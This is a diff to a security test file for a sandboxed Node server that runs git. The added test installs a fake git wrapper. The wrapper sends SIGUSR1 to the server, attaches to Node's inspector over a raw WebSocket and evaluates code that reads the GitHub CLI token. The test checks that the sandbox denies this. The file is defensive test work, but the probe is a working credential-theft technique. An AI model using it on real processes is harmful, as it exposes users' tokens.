@@ -6,6 +6,9 @@
  *  - Broad PATH entries: a PATH entry that holds a root (its parent), the run directory (/tmp) or gh's configuration
  *    must not become a read-execute grant: git (probing from inside, as in kernel-wall.test.ts) then reads outside
  *    the roots, gh's token and the server's run directory.
+ *  - git signalling the server: SIGUSR1 makes Node open its inspector on 127.0.0.1:9229, and a Runtime.evaluate there
+ *    runs in the server's wider domain — git (a program a repository may drive) read gh's token that way. git's
+ *    layer is scoped (no signals, no abstract sockets, no TCP out of it) and the server ignores SIGUSR1 under the wall.
  * Everything runs for real: the built server over stdio, real git, the real kernel; the pool check confines a child
  * Node process with the built addon and the real src/fs/kernel-wall.ts (bundled for it).
  */
@@ -89,6 +92,70 @@ describe('broad PATH entries do not widen the wall', () => {
     const log = await probe(extra());
     expect(log.trim().split('\n').length).toBeGreaterThanOrEqual(1);
     for (const line of log.trim().split('\n')) expect(line).toBe('read-denied gh-config-denied run-dir-denied');
+  });
+});
+
+describe("git cannot borrow the server's domain", () => {
+  /** A raw WebSocket client for the inspector: SIGUSR1 to the server, then Runtime.evaluate of a read of `file`. */
+  const INSPECTOR_PROBE = `import net from 'node:net';
+import http from 'node:http';
+const [ppid, file] = [Number(process.argv[2]), process.argv[3]];
+const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+const get = (u) => new Promise((res, rej) => http.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => res(d)); }).on('error', rej));
+try { process.kill(ppid, 'SIGUSR1'); } catch { console.log('signal-denied'); process.exit(0); }
+let list;
+for (let i = 0; i < 20 && !list; i++) { await sleep(100); list = await get('http://127.0.0.1:9229/json/list').then(JSON.parse, () => undefined); }
+if (!list) { console.log('no-inspector'); process.exit(0); }
+const sock = net.connect(9229, '127.0.0.1');
+sock.on('error', () => { console.log('no-inspector'); process.exit(0); });
+sock.write('GET ' + new URL(list[0].webSocketDebuggerUrl).pathname + ' HTTP/1.1\\r\\nHost: 127.0.0.1:9229\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n');
+const expression = "(() => { try { return process.getBuiltinModule('fs').readFileSync(" + JSON.stringify(file) + ", 'utf8'); } catch (e) { return 'ERR ' + e.code; } })()";
+const msg = Buffer.from(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression } }));
+let buf = '';
+let sent = false;
+sock.on('data', (d) => {
+  buf += d.toString('latin1');
+  if (!sent && buf.includes('\\r\\n\\r\\n')) {
+    sent = true;
+    sock.write(Buffer.concat([Buffer.from([0x81, 0xfe, msg.length >> 8, msg.length & 255, 0, 0, 0, 0]), msg]));
+  }
+  if (buf.includes('"id":1')) { console.log(buf.includes('oauth_token') ? 'inspector-token-ok' : 'inspector-token-denied'); process.exit(0); }
+});
+setTimeout(() => { console.log('inspector-timeout'); process.exit(0); }, 5000);
+`;
+
+  it("SIGUSR1 to the server and its inspector: git does not read gh's token through the server", async () => {
+    const probeDir = path.join(base, 'probe-bin');
+    mkdirSync(probeDir, { recursive: true });
+    writeFileSync(path.join(probeDir, 'inspector-probe.mjs'), INSPECTOR_PROBE);
+    const realGit = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();
+    const log = path.join(root, 'inspector.log');
+    writeFileSync(
+      path.join(probeDir, 'git'),
+      `#!/bin/sh
+${JSON.stringify(process.execPath)} ${JSON.stringify(path.join(probeDir, 'inspector-probe.mjs'))} "$PPID" "$GH_CONFIG_DIR/hosts.yml" >> ${JSON.stringify(log)} 2>&1
+exec ${realGit} "$@"
+`,
+    );
+    chmodSync(path.join(probeDir, 'git'), 0o755);
+    rmSync(log, { force: true });
+    let stderr = '';
+    const client = await connect('modern', {
+      args: [root],
+      cwd: root,
+      env: { PATH: [probeDir, process.env.PATH ?? ''].join(path.delimiter), GH_CONFIG_DIR: ghConfig },
+    });
+    try {
+      expect((await client.callOk('list_allowed_directories')).kernel_wall).toMatchObject({ enforced: true });
+      expect((await client.callOk('git_status', { path: root })).repo_root).toBe(root);
+      stderr = client.stderr();
+    } finally {
+      await client.close();
+    }
+    const lines = readFileSync(log, 'utf8').trim().split('\n');
+    expect(lines.length).toBeGreaterThanOrEqual(1);
+    for (const line of lines) expect(line).toBe('signal-denied');
+    expect(stderr).not.toContain('Debugger listening');
   });
 });
 
